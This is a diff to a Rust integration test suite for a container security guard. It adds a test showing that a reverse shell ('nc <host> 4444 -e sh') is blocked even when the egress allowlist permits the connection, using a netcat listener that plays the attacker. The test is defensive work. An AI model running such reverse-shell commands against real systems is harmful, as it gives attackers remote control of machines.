@@ -12,6 +12,7 @@ use std::process::Command;
 use std::time::{Duration, Instant};
 
 use common::monitor::{bins, ctl, Bins, Monitor};
+use common::netns::Net;
 use common::*;
 use serde_json::{json, Value};
 
@@ -120,13 +121,14 @@ fn world(b: &Bins, behavior: &str, mode: &str) -> World {
         w.path().join("run/monitor.sock").display(),
         w.path().join("spool").display()
     ));
-    w.policy(
-        "guard.toml",
-        &format!(
-            "name = \"guard\"\nmode = \"{mode}\"\n[match]\nannotations = {{ \"org.example.guard\" = \"on\" }}\n[behavior]\nmode = \"required\"\n{behavior}\n"
-        ),
-    );
+    w.policy("guard.toml", &guard_policy(behavior, mode));
     w
+}
+
+fn guard_policy(behavior: &str, mode: &str) -> String {
+    format!(
+        "name = \"guard\"\nmode = \"{mode}\"\n[match]\nannotations = {{ \"org.example.guard\" = \"on\" }}\n[behavior]\nmode = \"required\"\n{behavior}\n"
+    )
 }
 
 /// A spec on `ovl` running `args`, with a service-account token mounted.
@@ -265,6 +267,68 @@ fn reverse_shells_over_a_socket_and_a_fifo_pipe_do_not_start() {
 }
 
 #[test]
+fn a_reverse_shell_to_a_test_host_the_allowlist_permits_connects_but_no_shell_answers() {
+    let b = require_guard!();
+    if !std::path::Path::new("/usr/sbin/nft").exists() {
+        eprintln!("skip: nft not installed (scripts/host-setup.sh)");
+        return;
+    }
+    let net = Net::new("rsh", 1);
+    let host = net.hosts[0].clone();
+    let w = world(&b, "", "enforce");
+    w.policy(
+        "guard.toml",
+        &format!(
+            "name = \"guard\"\n[match]\nannotations = {{ \"org.example.guard\" = \"on\" }}\n\
+             [behavior]\nmode = \"required\"\nreverse_shell = true\n\
+             [egress]\nmode = \"allowlist\"\n[[egress.allow]]\ncidr = \"{}\"\nprotocol = \"tcp\"\nports = [4444]\n",
+            host.addr
+        ),
+    );
+    let _m = Monitor::started(&w, &b, &[]);
+    // The attacker's end on the test host: it sends a command the shell would run and keeps
+    // what comes back.
+    let busybox = rootfs().join("bin/busybox");
+    let mut listener = Command::new("ip")
+        .args(["netns", "exec", &host.netns])
+        .arg(&busybox)
+        .args(["nc", "-l", "-p", "4444"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    {
+        use std::io::Write as _;
+        let mut input = listener.stdin.take().unwrap();
+        input.write_all(b"echo PWNED-$((6*7))\n").unwrap();
+    }
+    std::thread::sleep(Duration::from_millis(200));
+    let ovl = Overlay::new(&w, "rsh");
+    let mut spec = guarded_spec(&w, &ovl, &["/bin/nc", &host.addr, "4444", "-e", "sh"]);
+    spec["linux"]["namespaces"] = json!([{"type": "pid"}, {"type": "network", "path": net.path()}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}]);
+    let (code, out) = run(&w, "bh-rsh", &spec);
+    assert_ne!(code, 0, "{out}");
+    // The connection was made (the allowlist permits it): the listener saw it and ended.
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while listener.try_wait().unwrap().is_none() {
+        assert!(
+            Instant::now() < deadline,
+            "the listener never got the connection: {out}"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let answered = listener.wait_with_output().unwrap();
+    assert!(!stdout(&answered).contains("PWNED-42"), "a shell answered");
+    let e = one(&events(&w, &b, "bh-rsh", 1), "reverse-shell");
+    assert_eq!(e["kind"], "behavior-denied");
+    assert!(e["detail"]["stdio"][0]
+        .as_str()
+        .unwrap()
+        .starts_with("socket:"));
+    assert_eq!(e["detail"]["policy"], "guard");
+}
+
+#[test]
 fn a_mounted_token_is_read_only_by_its_reader_and_a_dropped_binary_does_not_run() {
     let b = require_guard!();
     let w = world(&b, ALL, "enforce");
@@ -388,6 +452,21 @@ fn what_cannot_be_held_is_refused_under_required_and_without_the_guard() {
     );
 }
 
+/// Did `m` load the BPF enforcer? Prints why not (a kernel without BTF or BPF tracing), for
+/// the test to skip what only the enforcer holds.
+fn has_bpf(m: &Monitor) -> bool {
+    let log = m.log();
+    if let Some(line) = log
+        .lines()
+        .find(|l| l.contains("bpf: enforcer unavailable"))
+    {
+        eprintln!("skip: {line}");
+        return false;
+    }
+    assert!(log.contains("bpf: enforcer "), "{log}");
+    true
+}
+
 /// Entries of a pinned BPF map (`bpftool map dump`).
 fn map_entries(pins: &std::path::Path, map: &str) -> usize {
     let out = Command::new("bpftool")
@@ -479,6 +558,9 @@ fn the_loader_is_no_way_around_and_the_kernel_holds_while_ociguardd_is_down() {
     assert_eq!(e["detail"]["asked"], ld);
 
     // ociguardd goes away, and its fanotify group with it; the pinned programs still hold.
+    if !has_bpf(&m) {
+        return;
+    }
     let spec = guarded_spec(&w, &ovl, &["/bin/sleep", "30"]);
     let bundle = w.bundle("bh-down", &spec);
     let out = w.ociguard_detached(&["create", "--bundle", bundle.to_str().unwrap(), "bh-down"]);
@@ -520,8 +602,15 @@ fn the_loader_is_no_way_around_and_the_kernel_holds_while_ociguardd_is_down() {
 #[test]
 fn nothing_stays_guarded_after_many_containers_come_and_go() {
     let b = require_guard!();
-    let w = world(&b, &format!("{ALL}\nenviron = true"), "enforce");
+    let w = world(&b, ALL, "enforce");
     let m = Monitor::started(&w, &b, &[]);
+    let bpf = has_bpf(&m);
+    if bpf {
+        w.policy(
+            "guard.toml",
+            &guard_policy(&format!("{ALL}\nenviron = true"), "enforce"),
+        );
+    }
     let ovl = Overlay::new(&w, "many");
     let spec = guarded_spec(&w, &ovl, &["/bin/true"]);
     const N: usize = 1000;
@@ -538,6 +627,9 @@ fn nothing_stays_guarded_after_many_containers_come_and_go() {
         "every guard entry and its secret marks are released: {log}"
     );
     // And nothing of theirs is left in the kernel enforcer's maps.
+    if !bpf {
+        return;
+    }
     assert_eq!(map_entries(m.bpf_pins(), "og_containers"), 0);
     assert_eq!(map_entries(m.bpf_pins(), "og_names"), 0);
 }
